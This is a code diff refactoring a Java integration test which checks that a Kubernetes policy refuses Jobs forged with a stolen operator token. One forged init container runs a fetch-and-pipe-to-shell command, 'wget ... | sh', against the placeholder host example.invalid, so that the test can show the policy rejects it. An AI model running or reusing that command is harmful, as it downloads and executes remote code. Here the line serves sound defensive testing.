@@ -1,7 +1,6 @@
 package io.migrationgate.localcluster;
 
 import static io.migrationgate.localcluster.PolicyPlane.as;
-import static io.migrationgate.localcluster.PolicyPlane.refused;
 import static io.migrationgate.localcluster.PolicyPlane.require;
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -17,126 +16,50 @@ import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.function.Consumer;
-import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
 
 /**
- * Issue 8, defect 10: the operator may create Jobs wherever it watches, so a stolen operator token
+ * The operator may create Jobs wherever it watches, so a stolen operator token
  * could run any workload with any Secret. The chart's runner-Job policy lets the operator's
  * ServiceAccount create only Jobs shaped as JobFactory builds them. Each forgery here changes one
- * thing of a runner Job; HelmInstallIT shows the real operator's Jobs pass.
+ * thing of a Job JobFactory built ({@link JobSamples}); HelmInstallIT shows the real operator's
+ * Jobs pass.
  */
+@ExtendWith(SharedClusters.class)
 class OperatorJobForgeryIT {
 
-  static final String NS = "shop";
-  static final String DIGEST = "sha256:" + "0123456789abcdef".repeat(4);
-  static final String RUNNER_IMAGE = "registry.example/migration-gate@" + DIGEST;
+  static final String NS = "job-forgery";
   static PolicyPlane policies;
 
   @BeforeAll
-  static void theOperatorMayCreateJobs() throws Exception {
-    policies = PolicyPlane.start(Map.of(NS, "dev"), "runner.image=" + RUNNER_IMAGE);
+  static void theOperatorMayCreateJobs(PolicyPlane shared) {
+    policies = shared;
+    policies.createNamespace(NS, "dev");
     policies.grant(NS, PolicyPlane.OPERATOR, "batch", List.of("jobs"), List.of("create"));
     PolicyPlane.awaitPolicy(() -> createAsOperator(forged(j -> runner(j).setImage("busybox"))),
         "runs one container, runner");
   }
 
-  @AfterAll
-  static void stop() {
-    if (policies != null) {
-      policies.close();
-    }
+  /** {@code sample} in this test's namespace, with {@code change} made. */
+  static Job forged(Job sample, Consumer<Job> change) {
+    sample.getMetadata().setNamespace(NS);
+    change.accept(sample);
+    return sample;
   }
 
-  /** A Job as JobFactory builds it for a ConfigMap source (see JobFactory.build). */
-  static Job runnerJob() {
-    return Serialization.unmarshal("""
-        apiVersion: batch/v1
-        kind: Job
-        metadata:
-          name: orders-add-status-run
-          namespace: %s
-          labels: {app.kubernetes.io/managed-by: migration-gate, app.kubernetes.io/component: runner}
-          ownerReferences:
-          - {apiVersion: migrationgate.io/v1alpha1, kind: MigrationRequest, name: orders-add-status,
-             uid: 6a1c2f00-0000-4000-8000-000000000001, controller: true, blockOwnerDeletion: true}
-          finalizers: [migrationgate.io/job-outcome]
-        spec:
-          backoffLimit: 0
-          activeDeadlineSeconds: 300
-          template:
-            metadata:
-              labels: {app.kubernetes.io/managed-by: migration-gate, app.kubernetes.io/component: runner}
-            spec:
-              restartPolicy: Never
-              automountServiceAccountToken: false
-              enableServiceLinks: false
-              securityContext:
-                runAsNonRoot: true
-                runAsUser: 65532
-                runAsGroup: 65532
-                seccompProfile: {type: RuntimeDefault}
-              volumes:
-              - {name: scripts, configMap: {name: orders-add-status-snapshot, defaultMode: 292}}
-              - {name: tmp, emptyDir: {sizeLimit: 256Mi}}
-              containers:
-              - name: runner
-                image: %s
-                imagePullPolicy: IfNotPresent
-                command: [java, "-XX:SharedArchiveFile=/app/migration-gate.jsa", "-XX:TieredStopAtLevel=1", "-XX:+UseSerialGC",
-                          "-XX:-UsePerfData", "-XX:+ExitOnOutOfMemoryError", "-Djava.io.tmpdir=/tmp", "-jar", /app/migration-gate.jar, run]
-                args: ["--scripts=/workspace/scripts", "--url=jdbc:postgresql://orders-db:5432/orders", "--target=latest",
-                       "--report-file=/dev/termination-log"]
-                env:
-                - {name: MG_DB_USERNAME, valueFrom: {secretKeyRef: {name: orders-db, key: username, optional: false}}}
-                - {name: MG_DB_PASSWORD, valueFrom: {secretKeyRef: {name: orders-db, key: password, optional: false}}}
-                resources: {requests: {cpu: 100m, memory: 256Mi}, limits: {memory: 512Mi}}
-                securityContext:
-                  allowPrivilegeEscalation: false
-                  readOnlyRootFilesystem: true
-                  runAsNonRoot: true
-                  capabilities: {drop: [ALL]}
-                  seccompProfile: {type: RuntimeDefault}
-                volumeMounts:
-                - {name: scripts, mountPath: /workspace/scripts, readOnly: true}
-                - {name: tmp, mountPath: /tmp, readOnly: false}
-                terminationMessagePolicy: FallbackToLogsOnError
-        """.formatted(NS, RUNNER_IMAGE), Job.class);
-  }
-
-  /** As JobFactory builds it for an image source: the user's digest-pinned image copies the scripts in. */
-  static Job imageSourceJob() {
-    return forged(job -> {
-      PodSpec pod = job.getSpec().getTemplate().getSpec();
-      pod.getVolumes().set(0, new VolumeBuilder().withName("scripts").withNewEmptyDir().endEmptyDir().build());
-      Container copy = Serialization.unmarshal("""
-          name: copy-scripts
-          image: registry.example/orders-migrations@%s
-          imagePullPolicy: IfNotPresent
-          command: [cp, -R, /migrations/., /workspace/scripts/]
-          resources: {requests: {cpu: 10m, memory: 16Mi}, limits: {memory: 64Mi}}
-          securityContext:
-            allowPrivilegeEscalation: false
-            readOnlyRootFilesystem: true
-            runAsNonRoot: true
-            capabilities: {drop: [ALL]}
-            seccompProfile: {type: RuntimeDefault}
-          volumeMounts: [{name: scripts, mountPath: /workspace/scripts, readOnly: false}]
-          terminationMessagePolicy: FallbackToLogsOnError
-          """.formatted(DIGEST), Container.class);
-      pod.setInitContainers(new ArrayList<>(List.of(copy)));
-    });
-  }
-
+  /** The run Job of a ConfigMap source with {@code change} made. */
   static Job forged(Consumer<Job> change) {
-    Job job = runnerJob();
-    change.accept(job);
-    return job;
+    return forged(JobSamples.runFromConfigMap(), change);
   }
 
   static Container runner(Job job) {
     return job.getSpec().getTemplate().getSpec().getContainers().get(0);
+  }
+
+  static Container copyScripts(Job job) {
+    return job.getSpec().getTemplate().getSpec().getInitContainers().get(0);
   }
 
   static PodSpec pod(Job job) {
@@ -150,19 +73,14 @@ class OperatorJobForgeryIT {
 
   @Test
   void jobsShapedAsJobFactoryBuildsThemAreCreated() {
-    require(createAsOperator(runnerJob()));
-    require(createAsOperator(imageSourceJob()));
-    // the read-only plan Job runs the runner's other program
-    require(createAsOperator(forged(job -> {
-      List<String> command = new ArrayList<>(runner(job).getCommand());
-      command.set(command.size() - 1, "plan");
-      runner(job).setCommand(command);
-    })));
+    require(createAsOperator(forged(job -> { })));
+    require(createAsOperator(forged(JobSamples.runFromImage(), job -> { })));
+    require(createAsOperator(forged(JobSamples.plan(), job -> { })));
   }
 
   @Test
   void aStolenOperatorTokenCannotCreateAnyOtherJob() {
-    String shape = "runs one container, runner, with the image " + RUNNER_IMAGE;
+    String shape = "runs one container, runner, with the image " + JobSamples.runnerImage();
     String privileges = "allowPrivilegeEscalation: false, drops ALL capabilities";
     String mounts = "automountServiceAccountToken: false";
     Map<String, Job> forgeries = new LinkedHashMap<>();
@@ -222,24 +140,14 @@ class OperatorJobForgeryIT {
     expected.put("owned, not controlled", "MigrationRequest as its controller ownerReference");
     forgeries.put("another owner kind", forged(j -> j.getMetadata().getOwnerReferences().get(0).setKind("CronJob")));
     expected.put("another owner kind", "MigrationRequest as its controller ownerReference");
-    Job image = imageSourceJob();
-    forgeries.put("init image by tag", forged(j -> {
-      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
-      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
-      pod(j).getInitContainers().get(0).setImage("registry.example/orders-migrations:latest");
-    }));
+    forgeries.put("init image by tag", forged(JobSamples.runFromImage(),
+        j -> copyScripts(j).setImage("registry.example/orders-migrations:latest")));
     expected.put("init image by tag", "at most one init container, copy-scripts: an image pinned by digest");
-    forgeries.put("init with credentials", forged(j -> {
-      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
-      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
-      pod(j).getInitContainers().get(0).setEnv(new ArrayList<>(runner(j).getEnv()));
-    }));
+    forgeries.put("init with credentials", forged(JobSamples.runFromImage(),
+        j -> copyScripts(j).setEnv(new ArrayList<>(runner(j).getEnv()))));
     expected.put("init with credentials", "with no environment");
-    forgeries.put("init running a shell", forged(j -> {
-      pod(j).setInitContainers(new ArrayList<>(pod(image).getInitContainers()));
-      pod(j).getVolumes().set(0, pod(image).getVolumes().get(0));
-      pod(j).getInitContainers().get(0).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"));
-    }));
+    forgeries.put("init running a shell", forged(JobSamples.runFromImage(),
+        j -> copyScripts(j).setCommand(List.of("sh", "-c", "wget -qO- http://example.invalid/x | sh"))));
     expected.put("init running a shell", "running cp");
 
     List<String> accepted = new ArrayList<>();
